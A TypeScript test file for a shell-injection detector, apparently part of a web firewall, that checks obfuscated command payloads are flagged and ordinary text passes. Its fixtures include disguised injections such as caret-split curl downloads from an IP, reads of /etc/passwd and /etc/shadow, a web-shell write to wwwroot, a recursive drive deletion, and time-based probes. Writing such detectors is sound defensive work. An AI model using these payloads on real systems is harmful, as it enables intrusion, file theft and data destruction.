/**
 * The `shell` family on disguised commands: openers that are no `;` `|` `&` (`^`, `<`, a carriage
 * return), time-based probes of every shell, bash's `$'...'` quoting, commands run through variables,
 * characters picked out of variables, and command names split by characters the shell drops. Each
 * class is checked on attacks and on the ordinary values that look most like them.
 */
import { describe, expect, it } from "@effect/vitest"
import type { Paranoia } from "../../../src/internal/detection/families/contract.js"
import { CHARACTER_PICK, CONSTANT_ARITHMETIC, SLEEP_PROBE, withLeadingOpener } from "../../../src/internal/detection/families/shell/expansions.js"
import { family } from "../../../src/internal/detection/families/shell/index.js"
import { deobfuscateShell } from "../../../src/internal/detection/families/shell/normalize.js"
import { splitCommand, splitSystemPath } from "../../../src/internal/detection/families/shell/splitWords.js"
import { executedVariable } from "../../../src/internal/detection/families/shell/variables.js"
import { cpuDoublingRatio } from "./doublingRatio.js"

const score = (value: string, paranoia: Paranoia = 1): number =>
  family.mayMatch(value)
    ? family.scan(value, { location: "query", paranoia }).reduce((sum, finding) => sum + finding.score, 0)
    : 0

const rulesOf = (value: string, paranoia: Paranoia = 1): ReadonlyArray<string> =>
  family.mayMatch(value) ? family.scan(value, { location: "query", paranoia }).map((finding) => finding.ruleId) : []

describe("shell family: disguised commands", () => {
  it.each([
    "^whoami",
    "^ping -n 5 127.0.0.1",
    "<uname -a;",
    "<ifconfig",
    "\rwhoami",
    "\r\nuname -a\r\n",
    "x\runame -a",
    "^c^u^r^l http://203.0.113.9/x -o /tmp/x"
  ])("reads a command after a caret, a redirection or a carriage return as after a separator: %j", (value) => {
    expect(score(value)).toBeGreaterThanOrEqual(5)
  })

  it.each([
    "^ see above",
    "^this",
    "2^10 = 1024",
    "x^2 + y^2",
    "^_^",
    "<3 thanks",
    "<b>bold</b>",
    "<id>",
    "GET /users/<id>",
    "<date picker>",
    "<= 5 items",
    "if a<b then",
    "line one\r\nline two",
    "Dear Sir,\r\n\r\nthanks"
  ])("passes carets, angle brackets and line ends of ordinary text: %j", (value) => {
    expect(score(value)).toBeLessThan(5)
  })

  it("reads a leading opener as a separator only where a shell or cmd.exe would", () => {
    expect(withLeadingOpener("^whoami", "whoami")).toBe(";whoami")
    expect(withLeadingOpener("<id", "<id")).toBe(";id")
    // markup keeps its angle brackets; a caret before a space is an arrow pointing up
    expect(withLeadingOpener("<id>", "<id>")).toBe("<id>")
    expect(withLeadingOpener("^ see above", " see above")).toBe(" see above")
  })

  it.each([
    "^usleep 500",
    "<sleep 10;",
    "|sleep 7|",
    "s'l'eep 9",
    "Start-Sleep -s 12",
    "start-sleep 20",
    "timeout /t 15",
    "timeout.exe /T 30 /NOBREAK",
    "ping -c 12 127.0.0.1",
    "^ping -n 3 localhost"
  ])("refuses the time-based probe %j", (value) => {
    expect(rulesOf(value)).toContain("shell-019")
  })

  it.each(["sleep", "sleep 8 hours", "timeout 30 seconds", "timeout /t", "ping localhost", "ping -c 4 example.com", "Use Start-Sleep in scripts"])(
    "passes the probe-like text %j",
    (value) => {
      expect(SLEEP_PROBE.test(deobfuscateShell(value))).toBe(false)
      expect(rulesOf(value)).not.toContain("shell-019")
    }
  )

  it("reads bash's $'...' quoting, $IFS with an operator and a rooted variable's first character", () => {
    expect(deobfuscateShell("$'\\x77\\x68\\x6f\\x61\\x6d\\x69'")).toBe("whoami")
    expect(deobfuscateShell("$'\\167\\150\\157\\141\\155\\151'")).toBe("whoami")
    expect(deobfuscateShell("$'\\u0069d'")).toBe("id")
    expect(deobfuscateShell("x=$\"id\"")).toBe("x=id")
    expect(deobfuscateShell("cat${IFS%%?}/etc/passwd")).toBe("cat /etc/passwd")
    expect(deobfuscateShell("cat ${HOME:0:1}etc${PWD::1}passwd")).toBe("cat /etc/passwd")
    // a substring that is not the leading slash stays unread
    expect(deobfuscateShell("${HOME:1:3}")).toBe("${home:1:3}")
    for (const value of ["$'\\x41'", "$'abc'", "${IFS%%?}", "${PATH:0:1}"]) {
      expect(deobfuscateShell(value).length, value).toBeLessThanOrEqual(value.length)
    }
  })

  it.each([
    ";$'\\x75name' -a",
    "$'\\167\\150\\157\\141\\155\\151'",
    "&&$'\\x69\\x64'",
    "cat ${HOME:0:1}etc${HOME:0:1}passwd",
    "${PATH:0:1}bin${PATH:0:1}sh"
  ])("refuses a command written in ANSI-C quoting or with a slash taken from a variable: %j", (value) => {
    expect(score(value)).toBeGreaterThanOrEqual(5)
  })

  it.each(["$'hello'", "it's $'x'", "costs $'5' or so", "echo $'a\\tb'"])("passes ANSI-C quoting of no command: %j", (value) => {
    expect(score(value)).toBeLessThan(5)
  })

  it.each([
    "X=$'uname -a';$X",
    "p=\"whoami\"; $p",
    "a=ifconfig;${a}",
    "EXEC=$'\\x77\\x68\\x6f\\x61\\x6d\\x69';$EXEC",
    "Y=$\\'uname\\';$Y",
    "^X=$'whoami';$X",
    "a=who;b=ami;$a$b",
    "set a=who&&set b=ami&&call %a%%b%",
    "set x=netstat -an& %x%",
    "cmd /v:on /c \"set x=w&&set y=hoami&&!x!!y!\""
  ])("refuses a command run through a variable the value assigns: %j", (value) => {
    expect(rulesOf(value)).toContain("shell-034")
  })

  it.each([
    "CMD=\"npm start\"; $CMD",
    "X=1; $X",
    "export FOO=bar; echo done",
    "PRICE=5; total $PRICE",
    "set x=1 and then %x%",
    "a=b&c=d",
    "$a = 1; $a++"
  ])("passes assignments whose variable runs no command: %j", (value) => {
    expect(executedVariable(value)).toBeUndefined()
  })

  it("refuses one character picked out of a variable, not a leading substring", () => {
    for (const value of ["%comspec:~-7,1%md /c ver", "echo ${PATH:5:1}", "%ProgramFiles:~10,1%"]) {
      expect(rulesOf(value), value).toContain("shell-035")
    }
    for (const value of ["%date:~-4,4%", "echo %date:~-4,4%", "${SHA:0:7}", "${VERSION::7}", "50%:~ ok"]) {
      expect(CHARACTER_PICK.test(value), value).toBe(false)
    }
  })

  it.each([
    "'wh'oami",
    "\"w\"get evil.example",
    "c\"a\"t /etc/hosts",
    "c^m^d /c ver",
    "cu$@rl example.com",
    "pi``ng 127.0.0.1",
    "x;i''fconfig",
    "w\\h\\o\\a\\m\\i"
  ])("refuses a command name split by characters the shell drops: %j", (value) => {
    expect(rulesOf(value)).toContain("shell-036")
  })

  it.each([
    "I'd like that",
    "it's fine; I'd go",
    "\"id\"",
    "'whoami'",
    "don't; can't",
    "rock'n'roll",
    "O'Reilly's book",
    "y'all, ma'am",
    "the \"cat\" command",
    "say \"hi\" to 'who'",
    "That's two \"O\"s in goose",
    "C:\\Users\\bob\\notes.txt"
  ])("passes quotes, contractions and paths of ordinary text: %j", (value) => {
    expect(splitCommand(value)).toBeUndefined()
    expect(score(value)).toBeLessThan(5)
  })

  it("knows cmd.exe's own reconnaissance commands and the command a launcher runs", () => {
    for (const value of ["x & ver", "| findstr /s /i password *.config", "cmd /c \"whoami\"", "&& getmac /v"]) {
      expect(score(value), value).toBeGreaterThanOrEqual(5)
    }
    for (const value of ["Release notes; ver 2.0", "ver 2.0 released", "Use cmd /c to run it"]) {
      expect(score(value), value).toBeLessThan(5)
    }
  })

  it("refuses arithmetic of constants, the probe that prints a known number, not a script's arithmetic", () => {
    for (const value of ["|echo QWERTY$((40+2))QWERTY", "';echo $((9*9))'", "x$((7))z", "$(( 5 + 3 ))"]) {
      expect(rulesOf(value), value).toContain("shell-037")
    }
    for (const value of ["i=$((i+1))", "echo $(( count * 2 ))", "$((function(){ }))", "(( 5 + 3 ))"]) {
      expect(rulesOf(value), value).not.toContain("shell-037")
    }
  })

  it("reads a lone # as a comment ending the command and a program file after a separator as a command", () => {
    for (const value of ["|id #", "; whoami # x", "&calc.exe", "| payload.ps1", "x;run.bat /q"]) {
      expect(score(value), value).toBeGreaterThanOrEqual(5)
    }
    for (const value of ["Order; id #42", "user id #1234", "download setup.exe; run it", "setup.exe /S", "Q&A.exe", "see notes.bat & readme"]) {
      expect(score(value), value).toBeLessThan(5)
    }
  })

  it("reads a redirection to a path as a command's argument, and a program file by any path", () => {
    for (const value of ["& echo x > C:\\inetpub\\wwwroot\\x.asp", "; echo hi >> /tmp/x", "& %TEMP%\\payload.exe", "; rd /s /q C:\\"]) {
      expect(score(value), value).toBeGreaterThanOrEqual(5)
    }
    for (const value of ["tom; cat food > dog food", "a; sort data > out.txt", "score > 5; type A", "123 Main Rd; apt 4", "run C:\\tools\\x.exe now"]) {
      expect(score(value), value).toBeLessThan(5)
    }
  })

  it("reads a count followed by a plain word as a sentence, not a command's number", () => {
    for (const value of ["work hard; then sleep 8 hours", "eat; sleep 5 hours", "x; head 5 lines", "call us; ping 3 friends"]) {
      expect(score(value), value).toBeLessThan(5)
    }
    // the count alone, before another separator or a comment, or a command named after it still counts
    for (const value of ["x; sleep 5", "x;sleep 5;", "x; sleep 5 #", "x; sleep 10 && id", "a; timeout 5 whoami", "x;kill -9 1"]) {
      expect(score(value), value).toBeGreaterThanOrEqual(5)
    }
  })

  it("reads a parenthesis glued to a name as a function call, not a subshell", () => {
    for (const value of ["console.log(id)", "const id = await meta.instance('id');", "const proc = x('ls');", "console.log(xargs())", "api.get(hostname)"]) {
      expect(score(value), value).toBeLessThan(5)
    }
    // a subshell where a command starts, a substitution, and a program with its path still count
    for (const value of [";(id)", "a|(whoami)", "x (uname -a)", "$(id)", "exec(\"/bin/sh\")", "f(\"/etc/passwd\")", "run(cat /etc/passwd)"]) {
      expect(score(value), value).toBeGreaterThanOrEqual(5)
    }
  })

  it("reads a brace glued to a word as bash does, a literal, and `<word>` as a usage placeholder", () => {
    for (const value of ["$ {sudo -H} npm i -g npm", "{sudo -l}", "usage: curl <url> [options]", ".command('curl <url>', 'fetch the url')", "ping <host>"]) {
      expect(score(value), value).toBeLessThan(5)
    }
    for (const value of ["{ id; }", ";{ whoami; }", "a;{ls,-la}", ";cat</etc/passwd", ";cat < /etc/passwd", "x; wget <http://x/a>"]) {
      expect(score(value), value).toBeGreaterThanOrEqual(5)
    }
  })

  it("reads the command after a compound command's keyword, only after a separator", () => {
    for (const value of ["';if [ 1 -eq 1 ];then sleep 5;fi;'", "|| if true; then whoami; fi", ";for i in 1 2 3; do id; done", "; ! whoami", "x;then ls -la"]) {
      expect(score(value), value).toBeGreaterThanOrEqual(5)
    }
    for (const value of ["if id matches, then ok", "if curl fails; then retry", "then ssh into the box", "do ls and see", "We tried; then sleep came", "yes; then id card", "first; else cat food"]) {
      expect(score(value), value).toBeLessThan(5)
    }
  })

  it.each([
    "cat /etc/sha'd'ow",
    "more /e\"t\"c/passwd",
    "head -n 5 /pr'o'c/self/environ",
    "file=/etc/gr''oup",
    "x;tac /var/log/au\"th\".log",
    "less /bin/'b'ash"
  ])("reads a system path split by quotes as the path the shell joins: %j", (value) => {
    expect(rulesOf(value)).toContain("shell-040")
    expect(score(value), value).toBeGreaterThanOrEqual(5)
  })

  it.each([
    "see /home/o'brien's/notes",
    "/usr/share/doc/it's",
    "cat '/etc/hosts'",
    "open \"/tmp/report.pdf\"",
    "path /var/log/'app'.log",
    "the /etc/ dir's 'files' are fine",
    "docs at /opt/app, they're 'ok'"
  ])("passes quotes around a path or its segments, and apostrophes: %j", (value) => {
    expect(rulesOf(value)).not.toContain("shell-040")
  })

  it.each([
    "cat /etc/'passwd'",
    "cat /e'tc/pa'sswd",
    "cat \"/et\"c/pa\"ss\"wd",
    "cat /etc/'group'",
    "nl /etc/\"shadow\"",
    "tail /pro'c/se'lf/environ",
    "more \"/et\"c/gro\"up\"",
    "x;head '/etc/sha'do'w'",
    "less /'etc/gshadow'",
    "ls /\"root\"/.ssh"
  ])("reads a system path whose quotes open it, span a slash or wrap a known file: %j", (value) => {
    expect(rulesOf(value)).toContain("shell-040")
  })

  it.each([
    "Upload failed: /var/www/html/wp-content/uploads/2024/05/Bob's-Mom's-Cake.jpg",
    "/opt/music/Rock'n'Roll/track01.mp3",
    "path=/tmp/it''s.txt",
    "Upload failed: /var/www/uploads/2023/11/Ann's-Dad's-Boat.png",
    "Files live in /var/www/o'reilly's-books/index.html",
    "/opt/songs/Guns'n'Roses/track07.flac",
    "see /usr/share/fonts/Sans'n'Serif.otf",
    "saved as /tmp/can''t-open.txt",
    "kept in /srv/it's-a-kind-o'-thing.mp3",
    "paths: \"/etc/hosts\",\"/etc/resolv.conf\"",
    "edit '/etc/nginx/nginx.conf', then reload",
    "the /etc/nginx/nginx.conf's server block"
  ])("passes possessives and names with quotes in user directories, and quoted whole paths: %j", (value) => {
    expect(rulesOf(value)).not.toContain("shell-040")
  })

  it("reads disguised commands in time linear in the value's length", () => {
    const readers = (value: string) => {
      splitCommand(value)
      splitSystemPath(value)
      executedVariable(value)
      withLeadingOpener(value, value)
      SLEEP_PROBE.test(value)
      CHARACTER_PICK.test(value)
      CONSTANT_ARITHMETIC.test(value)
      deobfuscateShell(value)
    }
    for (const fragment of ["'a'", "a=b;", "$a$b", "%a:~1,", "${a:1:", "$'\\x4", "^<", "\r", ";c'a'", "$((1+", "$((1)", " /etc/a'b", "=/x'y'z", " \"/e\"t", " /e'tc/p'", " /etc/'a'"]) {
      const small = fragment.repeat(Math.ceil(128_000 / fragment.length))
      const large = small + small
      expect(cpuDoublingRatio(readers, small, large), fragment).toBeLessThanOrEqual(4)
    }
  })
})
